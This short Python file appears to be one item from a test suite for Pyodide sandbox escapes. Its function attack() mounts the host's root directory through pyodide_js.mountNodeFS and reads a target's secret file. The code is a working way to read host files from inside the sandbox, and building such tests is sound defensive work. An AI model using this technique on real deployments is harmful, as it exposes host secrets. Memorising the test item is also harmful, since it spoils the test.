"""The host's root directory, by mountNodeFS.

id: F1
canary: secret
spoils: a mount
"""

import pyodide_js


def attack(target):
    pyodide_js.mountNodeFS("/h", "/")
    with open("/h" + target.secret_file) as file:
        return file.read()
